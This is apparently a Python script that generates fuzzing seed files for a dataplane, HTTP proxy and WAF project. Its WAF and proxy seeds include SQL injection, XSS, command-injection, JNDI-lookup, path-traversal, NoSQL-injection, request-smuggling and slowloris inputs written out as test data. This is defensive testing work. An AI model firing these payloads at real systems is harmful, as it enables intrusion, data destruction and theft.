#!/usr/bin/python3
"""Write seed corpora for the fuzz targets: python3 seeds.py OUTDIR.

OUTDIR/net_input/: one valid frame of each kind the dataplane answers, first
byte = port (see fuzz_net_input.c; port MACs are 02:00:00:00:00:1p).
OUTDIR/config_parse/: valid and nearly valid config documents.
OUTDIR/http_parse/: valid requests (GET, POST with Content-Length, chunked
with an extension, pipelined, absolute-form), first 4 bytes = chunking seed
and limit choice (see fuzz_http_parse.c).
OUTDIR/seclang/: a few CRS-shaped rule files and rules/rampart-api/*.conf (see
fuzz_seclang.c).
OUTDIR/waf_tfn/: chain header (5 bytes) + value (see fuzz_waf_tfn.c).
OUTDIR/waf_detect/: SQL and HTML injections and benign values, raw (see
fuzz_waf_detect.c).
OUTDIR/tcp_connect/: active opens and relay pairs (see fuzz_tcp_connect.c).
OUTDIR/waf_engine/: paranoia byte + a request with each body kind the WAF's
request view parses (see fuzz_waf_engine.c).
OUTDIR/waf_program/: first byte 0 + an encoded rule model (two rules, one
chained), first byte 1 + Hyperscan database blobs (see fuzz_waf_program.c).
OUTDIR/proxy_session/: HTTP exchanges as (ctl, len, data) records on two
connections: keep-alive, pipelining, refusals, a forwarded request, a
slowloris head (see fuzz_proxy_session.c).
OUTDIR/waf_body_json/, OUTDIR/waf_body_urlenc/: a cut-count byte, the cuts
(2 bytes each) and a body (see fuzz_waf_body.h): nested JSON with escapes,
literals, errors; urlencoded pairs with %-escapes, '+', empty pairs.
"""
import json
import os
import sys

from scapy.layers.inet import ICMP, IP, TCP
from scapy.layers.inet6 import ICMPv6EchoRequest, ICMPv6ND_NS, ICMPv6NDOptSrcLLAddr, IPv6
from scapy.compat import raw
from scapy.layers.l2 import ARP, Ether

PORT0 = "02:00:00:00:00:10"
PEER = "02:00:00:00:00:02"


def frames():
    yield "arp_request", Ether(dst="ff:ff:ff:ff:ff:ff", src=PEER) / ARP(
        op=1, hwsrc=PEER, psrc="10.0.0.2", pdst="10.0.0.1")
    yield "arp_reply", Ether(dst=PORT0, src=PEER) / ARP(
        op=2, hwsrc=PEER, psrc="10.0.0.2", hwdst=PORT0, pdst="10.0.0.1")
    yield "echo4", Ether(dst=PORT0, src=PEER) / IP(src="10.0.0.2", dst="10.0.0.1") / ICMP() / (b"x" * 16)
    yield "echo4_offlink", Ether(dst=PORT0, src=PEER) / IP(src="192.0.2.1", dst="10.0.0.1") / ICMP()
    yield "echo6", Ether(dst=PORT0, src=PEER) / IPv6(src="fd00::2", dst="fd00::1") / ICMPv6EchoRequest()
    yield "ns", Ether(dst="33:33:ff:00:00:01", src=PEER) / IPv6(
        src="fd00::2", dst="ff02::1:ff00:1", hlim=255) / ICMPv6ND_NS(tgt="fd00::1") / ICMPv6NDOptSrcLLAddr(lladdr=PEER)


CONFIGS = {
    "http_proxy": {"schema": 1, "ports": [],
                   "http": {"max-sessions-per-worker": 8, "limits": {"body": 100, "chunk": 50},
                            "timeouts": {"header-read-ms": 500}},
                   "listeners": [{"name": "web", "port": 80},
                                 {"name": "adm", "port": 81, "address": "fd00::1"}],
                   "upstreams": [{"name": "p", "balance": "least-connections",
                                  "servers": [{"address": "10.0.0.9", "port": 80, "weight": 3},
                                              {"address": "fd00::9", "port": 80}],
                                  "health-check": {"path": "/h"}, "keepalive": {"max-idle": 2}}],
                   "routes": [{"name": "r", "listener": "web", "host": "*.a.test",
                               "path-prefix": "/x", "methods": ["GET", "POST"], "upstream": "p"},
                              {"name": "s", "listener": "adm", "upstream": "p"}]},
    "full": {"schema": 1, "ports": [
        {"port": 0, "name": "client", "addresses": ["10.0.0.1/24", "fd00::1/64"],
         "gateway4": "10.0.0.254", "gateway6": "fe80::1", "mtu": 1500},
        {"port": 1, "addresses": ["10.0.1.1/31"]}],
        "neighbour": {"reachable-ms": 30000, "retrans-ms": 1000, "probes": 3,
                      "pending-max": 8, "entries-max": 1024},
        "icmp": {"echo": True}},
    "minimal": {"schema": 1, "ports": []},
    "bad_address": {"schema": 1, "ports": [{"port": 0, "addresses": ["10.0.0.300/24"]}]},
    "impairment": {"schema": 1, "ports": [{"port": 0, "name": "client", "addresses": ["10.0.0.1/24"]}],
                   "impairment": [{"port": "client", "direction": "both", "seed": 7,
                                   "loss-ppm": 20000, "duplicate-ppm": 10000,
                                   "reorder-ppm": 250000, "reorder-delay-ms": 10,
                                   "corrupt-ppm": 1000, "rate-kbps": 100000}]},
}


HTTP_REQUESTS = {
    "get": b"GET /a/b?x=1&y=%41+b HTTP/1.1\r\nHost: example.com\r\nCookie: a=1; b=2\r\n\r\n",
    "post_cl": b"POST /api/v1/items HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
               b"Content-Length: 13\r\n\r\n{\"name\":\"x\"}",
    "chunked": b"POST /up HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
               b"5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\n\r\n",
    "pipelined": b"GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /%2e%2e//x/./y HTTP/1.0\r\n\r\n",
    "absolute": b"GET http://example.com:80/x HTTP/1.1\r\nHost: example.com\r\n\r\n",
    "trailer": b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
               b"1\r\nx\r\n0\r\nX-T: 1\r\n\r\n",
}


# fuzz_tcp_input.c record: ctl, len, TCP header + payload. ctl bits: 1 seq :=
# our last ACK, 2 ack := our last segment's end, 4 keep checksum, 8 discard
# port, 0x30 source port, 0xc0 clock step.
SYN_OPTS = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1, 0)), ("NOP", None),
            ("WScale", 7)]


def rec(ctl: int, seg) -> bytes:
    b = raw(seg)
    return bytes([ctl, len(b)]) + b


def tcp_sequences():
    syn = rec(0, TCP(sport=1, dport=7, seq=1000, flags="S", window=65535, options=SYN_OPTS))
    ack = rec(3, TCP(flags="A", window=65535))
    yield "handshake_data_fin", (syn + ack + rec(3, TCP(flags="PA") / b"hello") +
                                 rec(3, TCP(flags="A")) + rec(3, TCP(flags="FA")) +
                                 rec(3 | 0x40, TCP(flags="A")))
    yield "out_of_order", (syn + ack + rec(2, TCP(seq=1006, flags="A") / b"world") +
                           rec(2, TCP(seq=1001, flags="A") / b"hello") + rec(0x80, TCP(flags="A")))
    yield "rst_in_window", syn + ack + rec(2, TCP(seq=1100, flags="R")) + rec(3, TCP(flags="R"))
    yield "syn_established", syn + ack + rec(3, TCP(flags="S"))
    yield "rto", syn + ack + rec(3, TCP(flags="A") / b"abc") + rec(0xc0, TCP(flags="A"))
    yield "discard", rec(8, TCP(sport=1, seq=5, flags="S")) + rec(11, TCP(flags="A") / (b"d" * 100))
    # The backlog is 2 in the harness: the third SYN (port 2) gets a cookie,
    # its ACK (with timestamps, data) opens the connection from the cookie;
    # a fourth (port 3) answers its cookie with a wrong ACK.
    syn1 = rec(0x10, TCP(sport=1, dport=7, seq=2000, flags="S", window=65535))
    syn2 = rec(0x20, TCP(sport=1, dport=7, seq=3000, flags="S", window=65535, options=SYN_OPTS))
    syn3 = rec(0x30, TCP(sport=1, dport=7, seq=4000, flags="S", window=65535))
    yield "syn_cookie", (syn + syn1 + syn2 +
                         rec(0x23, TCP(flags="PA", window=65535,
                                       options=[("NOP", None), ("NOP", None),
                                                ("Timestamp", (2, 0))]) / b"hi") +
                         syn3 + rec(0x31, TCP(flags="A", ack=12345)) + rec(0x30, TCP(flags="A")))
    # Echoed data, then ACKs carrying SACK and D-SACK blocks (RACK, RFC 2883).
    yield "sack_dsack", (syn + ack + rec(3, TCP(flags="PA") / (b"s" * 200)) +
                         rec(3, TCP(flags="PA") / (b"t" * 200)) +
                         rec(2, TCP(flags="A", options=[("SAck", (1, 150))])) +
                         rec(2, TCP(flags="A", options=[("SAck", (5, 9, 1, 150))])) +
                         rec(0x40, TCP(flags="A")) + rec(3, TCP(flags="A")))
    yield "syn_cookie_no_ts", syn + syn1 + syn3 + rec(0x33, TCP(flags="A") / b"x") + rec(0x80, TCP(flags="A"))


# fuzz_tcp_connect.c record: ctl, len, TCP header + payload. ctl bits: 1 seq
# := our last ACK on the flow, 2 ack := the end of our last segment on it, 4
# keep checksum, 0x18 flow (0 the active open, 8 a relay client, 0x10 the
# relay's upstream, 0x18 an application step), 0x20 keep window, 0xc0 clock.
def tcp_connect_sequences():
    synack = rec(3, TCP(flags="SA", seq=9000, window=65535, options=SYN_OPTS))
    step = rec(0x18, TCP())
    yield "synack_data_close", (synack + rec(3, TCP(flags="PA") / b"hello") + step + step +
                                rec(3, TCP(flags="FA")) + rec(3 | 0x40, TCP(flags="A")))
    yield "refused", rec(2, TCP(flags="RA"))
    yield "bad_ack_then_ok", rec(0, TCP(flags="SA", ack=5)) + synack + step
    yield "syn_timeout", rec(0xc0, TCP(flags="A")) * 4
    yield "keepalive", synack + rec(0x80, TCP(flags="A")) + rec(0x40, TCP(flags="A"))
    client = (rec(8, TCP(seq=100, flags="S", window=65535, options=SYN_OPTS)) +
              rec(8 | 3, TCP(flags="A", window=65535)))
    up_synack = rec(0x10 | 3, TCP(flags="SA", seq=7000, window=65535, options=SYN_OPTS))
    yield "relay", (client + up_synack + rec(8 | 3, TCP(flags="PA") / b"request") +
                    rec(0x10 | 3, TCP(flags="PA") / b"response") + rec(8 | 3, TCP(flags="FA")) +
                    rec(0x10 | 3, TCP(flags="FA")) + rec(0x40, TCP(flags="A")))
    yield "relay_refused", client + rec(0x10 | 2, TCP(flags="RA"))
    # Simultaneous open: a SYN crosses ours, then its SYN-ACK (or an ACK)
    # completes the handshake.
    yield "simultaneous_open", (rec(0, TCP(flags="S", seq=9000, window=65535, options=SYN_OPTS)) +
                                rec(2, TCP(flags="SA", seq=9000, window=65535)) + step)
    yield "simultaneous_open_ack", (rec(0, TCP(flags="S", seq=9000, window=65535)) +
                                    rec(3, TCP(flags="A", window=65535)) + step)
    yield "relay_zero_window", (client + up_synack +
                                rec(0x10 | 0x20 | 3, TCP(flags="A", window=0)) +
                                rec(8 | 3, TCP(flags="PA") / (b"z" * 200)) + rec(0x80, TCP(flags="A")))


SECLANG = {
    "rule": b'SecRule REQUEST_COOKIES|!REQUEST_COOKIES:/__utm/|ARGS_NAMES|ARGS|XML:/* \\\n'
            b'    "@rx (?i)union\\s+select" \\\n'
            b'    "id:942100,phase:2,block,capture,t:none,t:urlDecodeUni,\\\n'
            b"    msg:'SQL Injection',tag:'paranoia-level/1',severity:'CRITICAL',\\\n"
            b"    setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'\"\n",
    "gate_chain": b'SecRule TX:EXECUTING_PARANOIA_LEVEL "@lt 2" "id:1,phase:1,pass,nolog,skipAfter:END"\n'
                  b'SecRule REQUEST_METHOD "!@within %{tx.allowed_methods}" "id:2,phase:1,block,chain"\n'
                  b'    SecRule &REQUEST_HEADERS:Host "@eq 0" "t:none"\n'
                  b'SecMarker "END"\n',
    "action_pm": b'SecAction "id:900000,phase:1,pass,nolog,setvar:tx.paranoia_level=1"\n'
                 b'SecRule REQUEST_HEADERS:User-Agent "@pmFromFile scanners-user-agents.data" '
                 b'"id:913100,phase:1,block,t:none,t:lowercase"\n',
}

WAF_TFN = {
    "urldecodeuni_lower": bytes([1, 3, 1, 0, 0]) + b"%u0041%2e%2E/%uff0e%c0%af",
    "html_js_css": bytes([2, 4, 5, 6, 0]) + b"&#x3c;\\x41\\u0042\\41 &lt;",
    "cmdline_path": bytes([3, 12, 13, 14, 15]) + b"C:\\a\\..\\b /c \"NET\" \xc3\xa9",
}

# Values for @detectSQLi / @detectXSS: one per rule family, plus benign text.
WAF_DETECT = {
    "sqli_tautology": b"-1839' or '1'='1",
    "sqli_bare": b"1234 OR 1=1",
    "sqli_union": b"foo') UNION ALL select NULL --",
    "sqli_stacked": b"1; drop table users--",
    "sqli_timing": b"1 and benchmark(5000000,md5(1))",
    "sqli_waitfor": b"foo')waitfor delay'5:0:20'--",
    "sqli_balanced": b"\" | type %SystemDrive%\\config.ini | \"",
    "sqli_mysql_comment": b"1/*!50000union*/ /*!50000select*/ 1",
    "xss_script": b"\"><script>alert(1)</script>",
    "xss_event": b"x onmouseover=alert(1)",
    "xss_url": b"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "xss_style": b"<div style=\"width: expression(alert(1))\">",
    "xss_comment": b"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "benign_prose": b"O'Brien's order, \"rush\" please -- thanks",
    "benign_json": b'{"name":"O\'Brien","age":30,"html":"<b>hi</b>"}',
    "nul": b"x'\x00or\x001=1--<img\x00 src=x onerror=alert(1)>",
}


def _post(ctype: bytes, body: bytes, target: bytes = b"/") -> bytes:
    return (b"POST " + target + b" HTTP/1.1\r\nHost: a\r\nContent-Type: " + ctype +
            b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)


# First byte: paranoia level - 1 (fuzz_waf_engine.c).
WAF_ENGINE = {
    "get_sqli": b"\x00GET /p?id=1%27%20union%20select%201--&safe=x HTTP/1.1\r\nHost: a\r\n"
                b"Cookie: __utma=1; s=union select\r\nReferer: http://evil/\r\n\r\n",
    "urlencoded": b"\x01" + _post(b"application/x-www-form-urlencoded", b"a=%3Cscript%3E&b=..%2f..%2fetc"),
    "json": b"\x02" + _post(b"application/json", b'{"a":{"b":["x","${jndi:ldap://e/}"]},"n":1.5e3,"t":true}'),
    "multipart": b"\x03" + _post(b"multipart/form-data; boundary=B",
                                 b'--B\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n'
                                 b"Content-Type: text/plain\r\n\r\n<?php ?>\r\n--B\r\n"
                                 b'Content-Disposition: form-data; name="v"\r\n\r\nunion select\r\n--B--\r\n'),
    "xml": b"\x00" + _post(b"application/xml",
                           b'<?xml version="1.0"?><r a="&lt;script&gt;"><![CDATA[union select]]><x/></r>'),
    "no_host_refused": b"\x00GET / HTTP/1.0\r\nProxy: x\r\n\r\nGET / HTTP/3.0\r\n\r\n",
}


def _body_seed(body: bytes, cuts=()) -> bytes:
    """fuzz_waf_body.h: byte 0 = number of cuts (7: byte by byte), 2 bytes LE each."""
    import struct
    if cuts == "bytewise":
        return b"\x07" + body
    return bytes([len(cuts)]) + b"".join(struct.pack("<H", c) for c in cuts) + body


WAF_BODY_JSON = {
    "nested": _body_seed(b'{"a":{"b":["x","${jndi:ldap://e/}"]},"n":-1.5e3,"t":true,"z":null}', (4, 17)),
    "escapes": _body_seed(b'{"k\\u0041y":"\\u00e9\\n\\"\\/","e":"","u":"\\u20AC"}', (3, 9, 10, 11)),
    "array_top": _body_seed(b'[1,[2,[3,{"x":[]}]],{}, "s"]', "bytewise"),
    "scalar_top": _body_seed(b'"just a string"'),
    "bad_literal": _body_seed(b'{"x":1abc,"y":tru}', (6,)),
    "unterminated": _body_seed(b'{"a":"open', (2, 2)),
    "nosql": _body_seed(b'{"user":{"$ne":null},"pass":{"$where":"sleep(100)"}}', (12, 30, 31)),
}

WAF_BODY_URLENC = {
    "pairs": _body_seed(b"a=1&b=%3Cscript%3E&c=x+y", (3, 8)),
    "empty": _body_seed(b"&&a=&=v&b==c&", "bytewise"),
    "names_only": _body_seed(b"flag&x=%zz&%u0041=1", (1, 5, 6)),
    "sqli": _body_seed(b"user=bob&id=1'%20UNION%20SELECT%20password%20FROM%20users--", (11, 12, 13)),
}


def _px(*records) -> bytes:
    """fuzz_proxy_session.c records: (ctl, data); data split at 255 bytes."""
    out = b""
    for ctl, data in records:
        while True:
            piece, data = data[:255], data[255:]
            out += bytes([ctl if not data else ctl & 3, len(piece)]) + piece
            if not data:
                break
    return out


# fuzz_proxy_response.c: a flag byte (bit 0: HEAD request), then what a
# backend sent.
PROXY_RESPONSE = {
    "length": b"\x00HTTP/1.1 200 OK\r\nServer: x\r\nContent-Length: 5\r\n\r\nhello",
    "chunked": b"\x02HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
               b"5;a=\"b\"\r\nhello\r\n0\r\nT: 1\r\n\r\n",
    "close": b"\x00HTTP/1.0 200 OK\r\nConnection: keep-alive\r\n\r\nbody",
    "head": b"\x01HTTP/1.1 204 No Content\r\nConnection: close, X\r\nX: 1\r\n\r\n",
    "interim": b"\x00HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 503 Busy\r\nContent-Length: 0\r\n\r\n",
    "smuggle": b"\x00HTTP/1.1 200 OK\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
}

PROXY_SESSION = {
    "keepalive": _px((0, b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n"),
                     (0, b"DELETE /api/y HTTP/1.1\r\nHost: a\r\n\r\n")),
    "pipelined": _px((0, b"GET /1 HTTP/1.1\r\nHost: a\r\n\r\nPOST /2 HTTP/1.1\r\nHost: a\r\n"
                         b"Content-Length: 3\r\n\r\nabcGET /3 HTTP/1.1\r\nHost: a\r\n"
                         b"Connection: close\r\n\r\n")),
    "split_chunked": _px((0, b"POST /u HTTP/1.1\r\nHost: a\r\nTransfer-"),
                         (0, b"Encoding: chunked\r\n\r\n5\r\nab"), (1, b"GET / HTTP/1.1\r\n"),
                         (0, b"cde\r\n0\r\n\r\n"), (1, b"Host: a\r\n\r\n")),
    "smuggling": _px((0, b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n"
                         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")),
    "forwarded_timeout": _px((0, b"POST /api/x HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n"
                                 b"Expect: 100-continue\r\n\r\nhello"), (0x10, b""), (0x20, b""),
                             (0, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")),
    "slowloris": _px((0, b"GET / HTTP/1.1\r\n"), (0x20, b"X: 1\r\n"), (0x20, b""),
                     (2, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), (0x30, b"")),
    "half_close": _px((4, b"GET /api/z HTTP/1.1\r\nHost: a\r\n\r\n"), (0x20, b"")),
}


def _mstr(b):
    import struct
    return struct.pack("<I", 0xffffffff) if b is None else struct.pack("<I", len(b)) + b


def _mrule(rid, op_arg, chain=None, tags=(b"attack-sqli",)):
    """One rule of dataplane/waf/waf_model.h's encoding (ARGS, t:lowercase, @rx)."""
    import struct
    r = struct.pack("<IBBBB", rid, 2, 2, 1, 2)          # id phase severity paranoia block
    r += struct.pack("<I", 2) + bytes([0, 0]) + _mstr(None) + bytes([0, 2]) + _mstr(b"safe")
    r += bytes([1, 1]) + bytes([0, 0]) + _mstr(op_arg) + _mstr(b"msg")  # n_tfn lowercase; @rx
    r += struct.pack("<I", len(tags)) + b"".join(_mstr(t) for t in tags)
    r += struct.pack("<I", 1) + _mstr(b"tx.anomaly_score_pl1") + bytes([1]) + _mstr(b"5")
    r += _mstr(None) + _mstr(None) + _mstr(b"t.conf") + struct.pack("<I", 7)
    return r + (bytes([1]) + chain if chain else bytes([0]))


def _hsdb_blob(entries):
    import struct
    payload = b"".join(k + bytes([kind]) + struct.pack("<I", len(v)) + v
                       for k, kind, v in sorted(entries))
    h = 0xcbf29ce484222325
    for c in payload:
        h = ((h ^ c) * 0x100000001b3) & 0xffffffffffffffff
    return b"RWHS" + struct.pack("<IIQ", 2, len(entries), h) + payload


def waf_program_seeds():
    import struct
    model = b"RWRM" + struct.pack("<III", 1, 0, 2) + _mrule(1001, b"union\\s+select") + \
        _mrule(1002, b"a", chain=_mrule(0, b"b", tags=()))
    return {"model": b"\x00" + model,
            "hsdb_empty": b"\x01" + _hsdb_blob([]),
            "hsdb_two": b"\x01" + _hsdb_blob([(bytes(range(16)), 0, b"x" * 40),
                                                (bytes(range(1, 17)), 1, b"hyperscan: refused")])}


def main():
    out = sys.argv[1]
    os.makedirs(os.path.join(out, "net_input"), exist_ok=True)
    os.makedirs(os.path.join(out, "config_parse"), exist_ok=True)
    os.makedirs(os.path.join(out, "http_parse"), exist_ok=True)
    for name, frame in frames():
        with open(os.path.join(out, "net_input", name), "wb") as f:
            f.write(b"\x00" + raw(frame))
    os.makedirs(os.path.join(out, "tcp_input"), exist_ok=True)
    for name, data in tcp_sequences():
        with open(os.path.join(out, "tcp_input", name), "wb") as f:
            f.write(data)
    os.makedirs(os.path.join(out, "tcp_connect"), exist_ok=True)
    for name, data in tcp_connect_sequences():
        with open(os.path.join(out, "tcp_connect", name), "wb") as f:
            f.write(data)
    for name, doc in CONFIGS.items():
        with open(os.path.join(out, "config_parse", name + ".json"), "w") as f:
            json.dump(doc, f)
    for sub, seeds in (("seclang", SECLANG), ("waf_tfn", WAF_TFN), ("waf_detect", WAF_DETECT),
                       ("waf_engine", WAF_ENGINE), ("proxy_session", PROXY_SESSION),
                       ("proxy_response", PROXY_RESPONSE),
                       ("waf_program", waf_program_seeds()),
                       ("waf_body_json", WAF_BODY_JSON), ("waf_body_urlenc", WAF_BODY_URLENC)):
        os.makedirs(os.path.join(out, sub), exist_ok=True)
        for name, data in seeds.items():
            with open(os.path.join(out, sub, name), "wb") as f:
                f.write(data)
    for i, (name, req) in enumerate(HTTP_REQUESTS.items()):
        with open(os.path.join(out, "http_parse", name), "wb") as f:
            f.write(bytes([2 if name == "trailer" else 0, 0, 0, 7 + i]) + req)
    # rules/rampart-api's rule files as SecLang seeds (real chains, FULL_REQUEST).
    api = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "rules", "rampart-api")
    for name in sorted(os.listdir(api)) if os.path.isdir(api) else ():
        if name.endswith(".conf"):
            with open(os.path.join(api, name), "rb") as src, \
                    open(os.path.join(out, "seclang", "rampart_api_" + name), "wb") as f:
                f.write(src.read())


if __name__ == "__main__":
    main()
